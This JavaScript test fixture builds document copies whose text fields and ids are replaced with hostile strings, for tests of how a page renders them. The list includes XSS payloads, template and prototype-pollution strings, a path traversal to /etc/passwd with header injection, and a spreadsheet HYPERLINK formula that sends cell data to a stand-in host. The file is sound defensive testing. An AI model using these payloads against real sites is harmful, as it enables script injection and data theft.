// Documents whose every text is hostile, for the tests that hold the page against them.

/** What a script sets that got to run. */
export const MARK = '__ran';

/** What sets it. */
export const RUN = `globalThis.${MARK}=1`;

/** Texts that break pages which take text for anything but text. */
export const HOSTILE = [
  `<img src="/hostile/img" onerror="${RUN}">`,
  `</title></style></textarea></script><script>${RUN}</script>`,
  `"'><svg/onload=${RUN}>`,
  `<a href="javascript:${RUN}">press me</a>`,
  `<iframe src="/hostile/frame"></iframe><link rel=stylesheet href=/hostile/style.css>`,
  `=HYPERLINK("http://hostile.example/?"&A1,"press")`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} %s %n`,
  '\u202Egnp.yrammus \u2067\u05d0\u05d1\u05d2\u2069 \u200F\u061C',
  'zero\u200Bwidth\u200D\u2060\uFEFFjoiners\u00AD',
  'محمد بن عبد الله 中村 さくら Ελένη',
  '👩‍👩‍👧‍👦🏳️‍🌈🇳🇴'.repeat(12),
  'e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A'.repeat(30),
  'W'.repeat(10_000),
  'many words '.repeat(900),
  `../../../etc/passwd\u0000\r\nSet-Cookie: a=b`,
  '__proto__',
];

/** An id that is no word, no number and no path. */
export const ID = `../"'><img src=/hostile/id>?a=b&c#d%2F%00 ${'x'.repeat(300)}`;

const TEXTS = new Set([
  'title', 'firstName', 'lastName', 'name', 'label', 'email', 'additionalInformation', 'tags', 'Site',
]);

/**
 * The same document with hostile texts in place of its own, each in its turn. Names of roles that decide what is seen
 * stay; `id` becomes the hostile one wherever it stands. `first` is which text comes first.
 */
export function poisoned(document, id, first = 0) {
  let next = first;
  const hostile = () => HOSTILE[next++ % HOSTILE.length];
  const isId = (key) => /^(id|.*Ids?)$/.test(key);
  const walk = (value, key) => {
    if (Array.isArray(value)) return value.map((one) => walk(one, key));
    if (value && typeof value === 'object') {
      return Object.fromEntries(Object.entries(value).map(([own, one]) => [own, walk(one, own)]));
    }
    if (isId(key) && value === id) return ID;
    return typeof value === 'string' && TEXTS.has(key) ? hostile() : value;
  };
  return walk(document, '');
}
